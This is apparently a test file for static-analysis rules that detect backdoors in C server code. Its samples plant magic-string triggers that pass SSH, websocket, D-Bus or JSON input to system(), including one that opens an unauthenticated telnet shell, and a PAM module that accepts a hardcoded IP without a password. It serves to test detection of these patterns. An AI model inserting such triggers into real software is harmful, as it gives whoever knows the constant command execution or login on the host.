// RUN: %run-both --checks=backdoor-input-trigger,backdoor-trusted-identity %s -- %mock | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// Input a server framework hands over (rules/apis/server-frameworks.yaml):
// libssh's channel callbacks and libwebsockets' protocol table (catalog
// `input-fields`: the callback fields of a framework's records), D-Bus
// method arguments, a PAM module's remote host, a cJSON request body.
#include <stddef.h>
#include <string.h>
int system(const char *cmd);
int strncmp(const char *a, const char *b, size_t n);

// libssh (callbacks.h, server.h), trimmed.
typedef struct ssh_session_struct *ssh_session;
typedef struct ssh_channel_struct *ssh_channel;
typedef int (*ssh_channel_exec_request_callback)(ssh_session session, ssh_channel channel,
                                                 const char *command, void *userdata);
typedef int (*ssh_channel_data_callback)(ssh_session session, ssh_channel channel, void *data,
                                         unsigned len, int is_stderr, void *userdata);
struct ssh_channel_callbacks_struct {
  size_t size;
  void *userdata;
  ssh_channel_data_callback channel_data_function;
  ssh_channel_exec_request_callback channel_exec_request_function;
};
int ssh_set_channel_callbacks(ssh_channel channel, struct ssh_channel_callbacks_struct *cb);

// libwebsockets (lws-protocols-plugins.h), trimmed.
struct lws;
typedef int lws_callback_function(struct lws *wsi, int reason, void *user, void *in, size_t len);
struct lws_protocols {
  const char *name;
  lws_callback_function *callback;
  size_t per_session_data_size;
  size_t rx_buffer_size;
};

// D-Bus and PAM, trimmed.
typedef struct DBusMessage DBusMessage;
typedef struct DBusError DBusError;
typedef unsigned dbus_bool_t;
#define DBUS_TYPE_STRING ((int)'s')
#define DBUS_TYPE_INVALID ((int)'\0')
dbus_bool_t dbus_message_get_args(DBusMessage *message, DBusError *error, int first_arg_type, ...);
const char *dbus_message_get_member(DBusMessage *message);
typedef struct pam_handle pam_handle_t;
#define PAM_SUCCESS 0
#define PAM_AUTH_ERR 7
#define PAM_RHOST 4
#define PAM_AUTHTOK 6
int pam_get_item(const pam_handle_t *pamh, int item_type, const void **item);
int pam_get_authtok(pam_handle_t *pamh, int item, const char **authtok, const char *prompt);
int check_password(const char *user, const char *password);
void note_local_login(const char *user);

// cJSON, trimmed.
typedef struct cJSON {
  struct cJSON *next, *prev, *child;
  int type;
  char *valuestring;
} cJSON;
cJSON *cJSON_Parse(const char *value);
cJSON *cJSON_GetObjectItem(const cJSON *object, const char *string);

static int on_exec(ssh_session s, ssh_channel ch, const char *command, void *ud) {
  // ruleid: backdoor-input-trigger
  if (strncmp(command, "x-vendor-diag ", 14) == 0)
    return system(command + 14);
  // CHECK-MESSAGES: :[[@LINE-2]]:7: warning: input delivered through 'ssh_channel_callbacks_struct::channel_exec_request_function' is compared with the constant "x-vendor-diag " and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
  return -1;
}

void serve_channel(ssh_channel ch) {
  struct ssh_channel_callbacks_struct cb = {.size = sizeof cb, .userdata = 0};
  cb.channel_exec_request_function = on_exec;
  ssh_set_channel_callbacks(ch, &cb);
}

static int http_cb(struct lws *wsi, int reason, void *user, void *in, size_t len) {
  const char *msg = (const char *)in;
  // ruleid: backdoor-input-trigger
  if (len > 6 && memcmp(msg, "\x7fSVC!", 5) == 0)
    system(msg + 5);
  // CHECK-MESSAGES: :[[@LINE-2]]:18: warning: input delivered through 'lws_protocols::callback' is compared with the constant "\x7fSVC!" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
  return 0;
}

static const struct lws_protocols protocols[] = {
    {"http", http_cb, 0, 0},
    {NULL, NULL, 0, 0},
};
const struct lws_protocols *server_protocols(void) { return protocols; }

// The same shape in a function no framework calls: not known input.
int replay(const char *command) {
  // ok: backdoor-input-trigger
  if (strncmp(command, "x-vendor-diag ", 14) == 0)
    return system(command + 14);
  return -1;
}

// A D-Bus method: its name routes, the code in its argument opens the
// engineering mode; a sibling method checks the dealer's session.
int session_ok(DBusMessage *m);
int diag_method(DBusMessage *m, DBusError *err) {
  const char *member = dbus_message_get_member(m);
  const char *arg = 0;
  if (!dbus_message_get_args(m, err, DBUS_TYPE_STRING, &arg, DBUS_TYPE_INVALID)) return -1;
  if (strcmp(member, "Status") == 0) return 0;
  if (strcmp(member, "EnterDealerMode") == 0) {
    // ruleid: backdoor-input-trigger
    if (strcmp(arg, "7a1c-DLR-5521") == 0) system("/usr/sbin/engmode --enable-ssh");
    // CHECK-MESSAGES: :[[@LINE-1]]:9: warning: input read by 'dbus_message_get_args' is compared with the constant "7a1c-DLR-5521" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    return 0;
  }
  if (strcmp(member, "FlashRegion") == 0) {
    if (!session_ok(m)) return -1;
    // ok: backdoor-input-trigger
    if (strcmp(arg, "eu") == 0) system("/usr/sbin/region --set eu");
  }
  return 0;
}

// A PAM module: the remote host the service reports is the peer's name.
int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  const char *rhost = 0, *tok = 0, *user = "";
  pam_get_item(pamh, PAM_RHOST, (const void **)&rhost);
  // ok: backdoor-trusted-identity
  if (rhost && strcmp(rhost, "localhost") == 0) note_local_login(user);
  // ruleid: backdoor-trusted-identity
  if (rhost && strcmp(rhost, "10.20.0.5") == 0) return PAM_SUCCESS;
  // CHECK-MESSAGES: :[[@LINE-1]]:16: warning: access depends on the peer identity from 'pam_get_item' equalling the constant "10.20.0.5": only then the code returns success without the verification other paths perform; whoever connects from or forges that identity is let in without credentials [backdoor-trusted-identity]
  if (pam_get_authtok(pamh, PAM_AUTHTOK, &tok, 0) != PAM_SUCCESS) return PAM_AUTH_ERR;
  return check_password(user, tok) ? PAM_SUCCESS : PAM_AUTH_ERR;
}

// A JSON body: its values are what the client sent.
long recv(int fd, void *buf, size_t n, int flags);
int rpc(int fd) {
  char body[2048];
  long n = recv(fd, body, sizeof body - 1, 0);
  if (n <= 0) return -1;
  body[n] = 0;
  cJSON *root = cJSON_Parse(body);
  cJSON *op = cJSON_GetObjectItem(root, "op");
  // ruleid: backdoor-input-trigger
  if (op && strcmp(op->valuestring, "factory-shell-9c1") == 0) system("/bin/busybox telnetd -l /bin/sh");
  // CHECK-MESSAGES: :[[@LINE-1]]:13: warning: input read by 'recv' is compared with the constant "factory-shell-9c1" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
  return 0;
}

// A JSON document compiled in is no client's.
static const char kDefaults[] = "{\"op\": \"factory-shell-9c1\"}";
int defaults(void) {
  cJSON *op = cJSON_GetObjectItem(cJSON_Parse(kDefaults), "op");
  // ok: backdoor-input-trigger
  if (op && strcmp(op->valuestring, "factory-shell-9c1") == 0) system("/usr/sbin/reset-defaults");
  return 0;
}
